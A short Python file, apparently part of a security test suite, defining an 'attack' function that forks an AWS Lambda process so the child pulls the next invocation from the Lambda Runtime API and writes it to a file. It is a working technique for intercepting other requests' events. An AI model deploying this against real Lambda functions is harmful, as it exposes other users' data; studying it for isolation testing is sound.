"""As a child would, but without a new program: a fork of the runtime asks for the next event."""

import os
import urllib.request


def attack(event):
    if os.fork() == 0:
        try:
            url = "http://%s/2018-06-01/runtime/invocation/next" % os.environ["AWS_LAMBDA_RUNTIME_API"]
            with open(event["out"], "w") as out:
                out.write(urllib.request.urlopen(url).read().decode())
        finally:
            os._exit(0)
